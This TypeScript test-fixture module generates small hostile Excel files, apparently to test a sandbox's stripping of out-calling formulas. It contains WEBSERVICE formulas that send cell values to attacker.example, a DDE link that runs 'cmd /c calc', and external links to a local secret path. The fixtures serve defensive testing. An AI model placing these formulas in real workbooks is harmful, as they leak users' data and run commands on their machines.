/**
 * Small hostile xlsx files (tests, and the sandbox's hostileXlsx fault): formulas that call out of the workbook (WEBSERVICE, links to
 * other workbooks, DDE), with and without saved values, and a harmless look-alike. Built on the
 * package the sandbox's agents make (resources/agentFiles.ts), its one sheet replaced.
 */
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { xlsx } from "./agentFiles";

export interface XlsxCell {
  /** A1 address. */
  ref: string;
  /** Formula text as the file holds it (no "="; `_xlfn.` prefixes as Excel writes them). */
  formula?: string;
  /** Attributes of the `<f>` element, e.g. `{ t: "shared", si: "0", ref: "B2:B4" }`. */
  f?: Record<string, string>;
  /** The saved value; left out, the cell has none. A string is a formula's text result (`t="str"`) or inline text. */
  value?: string | number | boolean;
  /** An error value such as `#VALUE!` instead of `value`. */
  error?: string;
}

export interface XlsxSpec {
  sheetName?: string;
  cells: XlsxCell[];
  definedNames?: { name: string; formula: string }[];
  /** Each entry's XML becomes xl/externalLinks/externalLinkN.xml, with its relationships and content type. */
  externalLinks?: string[];
  /** XML after sheetData (conditionalFormatting, dataValidations, oleObjects…). */
  afterSheetData?: string;
  /** A calculation chain part listing the formula cells, as Excel writes one. */
  calcChain?: boolean;
}

const esc = (s: string) =>
  s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const EXTERNAL_LINK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml";

function cellXml(c: XlsxCell): string {
  const f =
    c.formula === undefined && !c.f
      ? ""
      : `<f${Object.entries(c.f ?? {})
          .map(([k, v]) => ` ${k}="${esc(v)}"`)
          .join("")}${c.formula === undefined ? "/>" : `>${esc(c.formula)}</f>`}`;
  const v = c.value;
  if (c.error !== undefined) return `<c r="${c.ref}" t="e">${f}<v>${esc(c.error)}</v></c>`;
  if (v === undefined) return `<c r="${c.ref}">${f}</c>`;
  if (typeof v === "number") return `<c r="${c.ref}">${f}<v>${v}</v></c>`;
  if (typeof v === "boolean") return `<c r="${c.ref}" t="b">${f}<v>${v ? 1 : 0}</v></c>`;
  return f
    ? `<c r="${c.ref}" t="str">${f}<v>${esc(v)}</v></c>`
    : `<c r="${c.ref}" t="inlineStr"><is><t>${esc(v)}</t></is></c>`;
}

/** An xlsx package with one sheet of the given cells (formulas, saved values), names and parts. */
export function formulaXlsx(spec: XlsxSpec): Uint8Array {
  const files = unzipSync(xlsx([]));
  const rowOf = (ref: string) => Number(/\d+$/.exec(ref)?.[0]);
  const rows = [...new Set(spec.cells.map((c) => rowOf(c.ref)))].sort((a, b) => a - b);
  const sheetData = rows
    .map(
      (r) =>
        `<row r="${r}">${spec.cells
          .filter((c) => rowOf(c.ref) === r)
          .map(cellXml)
          .join("")}</row>`,
    )
    .join("");
  files["xl/worksheets/sheet1.xml"] = strToU8(
    `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}" xmlns:r="${REL}"><sheetData>${sheetData}</sheetData>${spec.afterSheetData ?? ""}</worksheet>`,
  );

  let workbook = strFromU8(files["xl/workbook.xml"]).replace(
    'name="Agent result"',
    `name="${esc(spec.sheetName ?? "Data")}"`,
  );
  let rels = strFromU8(files["xl/_rels/workbook.xml.rels"]);
  let types = strFromU8(files["[Content_Types].xml"]);
  const links = spec.externalLinks ?? [];
  const refs = links.map((xml, i) => {
    const n = i + 1;
    files[`xl/externalLinks/externalLink${n}.xml`] = strToU8(xml);
    files[`xl/externalLinks/_rels/externalLink${n}.xml.rels`] = strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="file:///C:/secret/book${n}.xlsx" TargetMode="External"/></Relationships>`,
    );
    rels = rels.replace(
      "</Relationships>",
      `<Relationship Id="rIdX${n}" Type="${REL}/externalLink" Target="externalLinks/externalLink${n}.xml"/></Relationships>`,
    );
    types = types.replace(
      "</Types>",
      `<Override PartName="/xl/externalLinks/externalLink${n}.xml" ContentType="${EXTERNAL_LINK_TYPE}"/></Types>`,
    );
    return `<externalReference r:id="rIdX${n}"/>`;
  });
  const names = (spec.definedNames ?? [])
    .map((d) => `<definedName name="${esc(d.name)}">${esc(d.formula)}</definedName>`)
    .join("");
  workbook = workbook.replace(
    "</sheets>",
    `</sheets>${refs.length ? `<externalReferences>${refs.join("")}</externalReferences>` : ""}${names ? `<definedNames>${names}</definedNames>` : ""}`,
  );
  if (spec.calcChain) {
    const listed = spec.cells
      .filter((c) => c.formula !== undefined || c.f)
      .map((c) => `<c r="${c.ref}" i="1"/>`);
    files["xl/calcChain.xml"] = strToU8(`<calcChain xmlns="${MAIN}">${listed.join("")}</calcChain>`);
    rels = rels.replace(
      "</Relationships>",
      `<Relationship Id="rIdC" Type="${REL}/calcChain" Target="calcChain.xml"/></Relationships>`,
    );
    types = types.replace(
      "</Types>",
      `<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/></Types>`,
    );
  }
  files["xl/workbook.xml"] = strToU8(workbook);
  files["xl/_rels/workbook.xml.rels"] = strToU8(rels);
  files["[Content_Types].xml"] = strToU8(types);
  return zipSync(files);
}

/** An externalLink part for `[1]`: another workbook, with the values Excel saved from it. */
export const EXTERNAL_BOOK = `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="${MAIN}" xmlns:r="${REL}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>7</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`;

/** An externalLink part holding a DDE link (cmd, topic " /c calc"). */
export const DDE_LINK_PART = `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="${MAIN}"><ddeLink ddeService="cmd" ddeTopic=" /c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`;

export const HOSTILE_XLSX_KINDS = [
  "webservice",
  "webserviceNoValue",
  "filterxmlOverWebservice",
  "externalLink",
  "dde",
  "sharedFormula",
  "stringLiteral",
] as const;
export type HostileXlsxKind = (typeof HOSTILE_XLSX_KINDS)[number];

const header: XlsxCell[] = [
  { ref: "A1", value: "Show" },
  { ref: "B1", value: "Rate" },
];

/**
 * One small file per kind, on a sheet named "Data". Every kind but `webserviceNoValue` (B2 and B3
 * call WEBSERVICE with no saved value) and `stringLiteral` (WEBSERVICE only as text) has outward
 * cells with saved values, next to a local formula that must stay.
 */
export function hostileXlsx(kind: HostileXlsxKind): Uint8Array {
  const local: XlsxCell = { ref: "C2", formula: "B2*2", value: 2.46 };
  switch (kind) {
    case "webservice":
      return formulaXlsx({
        cells: [
          ...header,
          { ref: "A2", value: "Show 1" },
          { ref: "B2", formula: '_xlfn.WEBSERVICE("https://attacker.example/?leak="&A2)', value: "1.23" },
          local,
        ],
        calcChain: true,
      });
    case "webserviceNoValue":
      return formulaXlsx({
        cells: [
          ...header,
          { ref: "B2", formula: '_xlfn.WEBSERVICE("https://attacker.example/a")' },
          { ref: "B3", formula: 'WEBSERVICE("https://attacker.example/b")' },
          { ref: "B4", formula: "1+1", value: 2 },
        ],
      });
    case "filterxmlOverWebservice":
      return formulaXlsx({
        cells: [
          ...header,
          {
            ref: "B2",
            formula: '_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://attacker.example/feed.xml"),"//rate")',
            value: 42,
          },
          local,
        ],
      });
    case "externalLink":
      return formulaXlsx({
        cells: [...header, { ref: "B2", formula: "[1]Sheet1!A1", value: 7 }, local],
        externalLinks: [EXTERNAL_BOOK],
        definedNames: [{ name: "Remote", formula: "[1]Sheet1!$A$1" }],
      });
    case "dde":
      return formulaXlsx({
        cells: [...header, { ref: "B2", formula: "cmd|' /c calc'!A0", value: 0 }, local],
        externalLinks: [DDE_LINK_PART],
      });
    case "sharedFormula":
      // B2 is the group's master; B3 and B4 hold only its id. C2:C4 is a local group that must stay.
      return formulaXlsx({
        cells: [
          ...header,
          ...[2, 3, 4].map((r) => ({ ref: `A${r}`, value: `Show ${r - 1}` })),
          {
            ref: "B2",
            formula: '_xlfn.WEBSERVICE("https://attacker.example/?q="&A2)',
            f: { t: "shared", ref: "B2:B4", si: "0" },
            value: "10",
          },
          { ref: "B3", f: { t: "shared", si: "0" }, value: "20" },
          { ref: "B4", f: { t: "shared", si: "0" }, value: "30" },
          { ref: "C2", formula: 'A2&"!"', f: { t: "shared", ref: "C2:C4", si: "1" }, value: "Show 1!" },
          { ref: "C3", f: { t: "shared", si: "1" }, value: "Show 2!" },
          { ref: "C4", f: { t: "shared", si: "1" }, value: "Show 3!" },
        ],
      });
    case "stringLiteral":
      return formulaXlsx({
        cells: [
          ...header,
          { ref: "A2", value: "WEBSERVICE" },
          { ref: "B2", formula: 'IF(A2="WEBSERVICE(""https://x.example"")","call","text")', value: "text" },
          { ref: "C2", formula: '"=WEBSERVICE(1) and [1]Sheet1!A1 and cmd|x!A0"', value: "quoted" },
        ],
      });
  }
}
